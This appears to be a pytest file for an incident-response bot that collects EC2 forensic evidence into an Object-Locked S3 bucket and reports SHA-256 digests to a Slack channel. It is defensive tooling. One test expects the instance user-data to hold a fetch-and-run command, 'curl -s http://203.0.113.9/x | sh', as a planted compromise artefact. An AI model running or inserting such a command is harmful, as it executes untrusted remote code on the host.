"""collect against moto's server over HTTP: the evidence in S3 and the message in the channel."""

from __future__ import annotations

import hashlib
import json
import re
from datetime import datetime, timedelta, timezone

import boto3
import pytest

from actions.collect import collect, decode_console_output
from actions.context import RunContext
from actions.errors import ActionError
from actions.steps import StepLog
from tests.helpers import CHANNEL, RESPONDER, evidence_keys, make_world, session_of
from workers.jobs import run_command
from core.request import CommandRequest


def request_for(instance_id: str, **options) -> CommandRequest:
    return CommandRequest(command="collect", targets=(instance_id,), options=options, user_id=RESPONDER, channel_id=CHANNEL, incident=CHANNEL)


def test_collect_gathers_the_instance_its_volumes_groups_interfaces_profile_and_console(aws):
    world = make_world()
    result = collect(session_of("collect"), world["instance"], "us-east-1", context=RunContext(), steps=StepLog())

    bodies = {a.name: a.body for a in result.artefacts}
    assert set(bodies) == {"instance.json", "volumes.json", "network-interfaces.json", "security-groups.json", "instance-profile.json", "console-output.txt", "user-data.txt"}
    assert result.notes == []
    instance = json.loads(bodies["instance.json"])["Instance"]
    assert instance["InstanceId"] == world["instance"]
    volumes = json.loads(bodies["volumes.json"])["Volumes"]
    assert sorted(v["Size"] for v in volumes) == [8, 20]
    groups = json.loads(bodies["security-groups.json"])["SecurityGroups"]
    assert [g["GroupId"] for g in groups] == [world["group"]]
    interfaces = json.loads(bodies["network-interfaces.json"])["NetworkInterfaces"]
    assert interfaces and interfaces[0]["Attachment"]["InstanceId"] == world["instance"]
    profile = json.loads(bodies["instance-profile.json"])
    assert profile["InstanceProfile"]["Arn"] == world["profile"]
    assert profile["RolePolicies"][0]["AttachedPolicies"][0]["PolicyName"] == "web-read-s3-us-east-1"
    assert bodies["console-output.txt"].strip()
    assert bodies["user-data.txt"] == b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
    assert result.facts["identity"]["account"]


def test_collect_of_a_missing_instance_says_so_in_one_sentence(aws):
    make_world()
    with pytest.raises(ActionError) as raised:
        collect(session_of("collect"), "i-0123456789abcdef0", "us-east-1", context=RunContext(), steps=StepLog())
    assert str(raised.value) == (
        "Instance i-0123456789abcdef0 was not found in us-east-1: check the ID, and the region (add --region R)."
    )


def test_console_output_is_decoded_whether_base64_or_plain():
    assert decode_console_output("aGVsbG8gd29ybGQK") == "hello world\n"
    assert decode_console_output("[    0.000000] Linux version 6.1") == "[    0.000000] Linux version 6.1"
    assert decode_console_output(None) == ""


def test_collect_job_stores_locked_evidence_with_digests_and_reports_it(irbot_env, slack):
    world = make_world()
    outcome = run_command(request_for(world["instance"]).to_dict())

    s3 = boto3.client("s3")
    assert outcome["ok"] is True
    names = sorted(o["key"].rsplit("/", 1)[-1] for o in outcome["objects"])
    assert names == sorted(["instance.json", "volumes.json", "network-interfaces.json", "security-groups.json", "instance-profile.json", "console-output.txt", "user-data.txt", "manifest.json"])
    for stored in outcome["objects"]:
        assert stored["key"].startswith(f"{CHANNEL}/123456789012/{world['instance']}/")
        obj = s3.get_object(Bucket="ir-evidence", Key=stored["key"])
        body = obj["Body"].read()
        assert obj["Metadata"]["sha256"] == hashlib.sha256(body).hexdigest() == stored["sha256"]
        assert obj["ObjectLockMode"] == "COMPLIANCE"
        until = obj["ObjectLockRetainUntilDate"]
        assert timedelta(days=89) < until - datetime.now(timezone.utc) <= timedelta(days=90)

    manifest_key = next(o["key"] for o in outcome["objects"] if o["key"].endswith("manifest.json"))
    manifest = json.loads(s3.get_object(Bucket="ir-evidence", Key=manifest_key)["Body"].read())
    assert {o["name"]: o["sha256"] for o in manifest["objects"]} == {
        o["key"].rsplit("/", 1)[-1]: o["sha256"] for o in outcome["objects"] if not o["key"].endswith("manifest.json")
    }
    assert manifest["request"]["user_id"] == RESPONDER and manifest["request"]["response_url"] is None

    # One message in the channel, its outcome; each object, its short digest and its link in that message's thread.
    [card] = slack.top_level(CHANNEL)
    message = slack.current(CHANNEL, card["ts"])
    assert "8 objects" in message["text"] and "write-protected by S3 Object Lock (COMPLIANCE" in message["text"]
    assert "sha256" not in message["text"]
    [detail] = slack.thread(CHANNEL, card["ts"])
    for stored in outcome["objects"]:
        name = stored["key"].rsplit("/", 1)[-1]
        assert f"{name} — " in detail["text"] and f"sha256 {stored['sha256'][:12]}… — " in detail["text"]
        assert stored["sha256"] not in detail["text"]  # short in messages; whole in the object's metadata and the manifest
    assert "Audit records 1-" in detail["text"] and "Audit records" not in message["text"]  # the seal, only in the thread
    assert re.search(r"chain head sha256 [0-9a-f]{12}…", detail["text"]) and not re.search(r"sha256 [0-9a-f]{13}", detail["text"])


def test_governance_mode_and_retention_days_are_configurable(irbot_env, slack, monkeypatch):
    world = make_world()
    monkeypatch.setenv("IR_EVIDENCE_LOCK_MODE", "GOVERNANCE")
    monkeypatch.setenv("IR_EVIDENCE_RETENTION_DAYS", "7")
    outcome = run_command(request_for(world["instance"]).to_dict())
    obj = boto3.client("s3").head_object(Bucket="ir-evidence", Key=outcome["objects"][0]["key"])
    assert obj["ObjectLockMode"] == "GOVERNANCE"
    assert obj["ObjectLockRetainUntilDate"] - datetime.now(timezone.utc) <= timedelta(days=7)


def test_a_bucket_without_object_lock_is_used_but_the_channel_is_warned(irbot_env, slack):
    world = make_world(object_lock=False)
    outcome = run_command(request_for(world["instance"]).to_dict())
    assert outcome["ok"]
    obj = boto3.client("s3").head_object(Bucket="ir-evidence", Key=outcome["objects"][0]["key"])
    assert "ObjectLockMode" not in obj
    [card] = slack.top_level(CHANNEL)
    message = slack.current(CHANNEL, card["ts"])
    assert "NOT write-protected" in message["text"]
    assert any("not write-protected" in json.dumps(b) for b in message["blocks"])


def test_a_missing_instance_is_a_sentence_in_the_channel_and_nothing_is_stored(irbot_env, slack):
    make_world()
    outcome = run_command(request_for("i-0123456789abcdef0").to_dict())
    assert outcome == {"ok": False, "error": "Instance i-0123456789abcdef0 was not found in us-east-1: check the ID, and the region (add --region R)."}
    assert evidence_keys() == []
    [card] = slack.top_level(CHANNEL)
    message = slack.current(CHANNEL, card["ts"])
    assert "was not found in us-east-1" in message["text"]
    assert "Traceback" not in message["text"]


def test_a_missing_evidence_bucket_is_named_and_the_instance_is_not_touched(irbot_env, slack, monkeypatch):
    world = make_world()
    monkeypatch.setenv("IR_EVIDENCE_BUCKET", "no-such-evidence-bucket")
    outcome = run_command(request_for(world["instance"]).to_dict())
    assert outcome["ok"] is False
    assert "no-such-evidence-bucket does not exist" in outcome["error"]
    [card] = slack.top_level(CHANNEL)
    assert "does not exist" in slack.current(CHANNEL, card["ts"])["text"]


def test_an_instance_in_another_region_is_collected_with_region(irbot_env, slack):
    make_world()
    other = make_world("eu-west-1", bucket=None)
    outcome = run_command(request_for(other["instance"], region="eu-west-1").to_dict())
    assert outcome["ok"]
    [card] = slack.top_level(CHANNEL)
    assert f"{other['instance']} (123456789012, eu-west-1)" in slack.current(CHANNEL, card["ts"])["text"]


def test_posting_falls_back_to_response_url_when_the_bot_is_not_in_the_channel(irbot_env, slack):
    world = make_world()
    slack.outside_channels.add(CHANNEL)
    request = CommandRequest(command="collect", targets=(world["instance"],), options={}, user_id=RESPONDER,
                             channel_id=CHANNEL, incident=CHANNEL, response_url=slack.response_url("c1"))
    assert run_command(request.to_dict())["ok"]
    # No ts to hang a thread from: the outcome, then its detail after it.
    posted, detail = slack.calls_to("response_url")
    assert posted.params["response_type"] == detail.params["response_type"] == "in_channel"
    assert "8 objects" in posted.params["text"] and "sha256" in detail.params["text"]
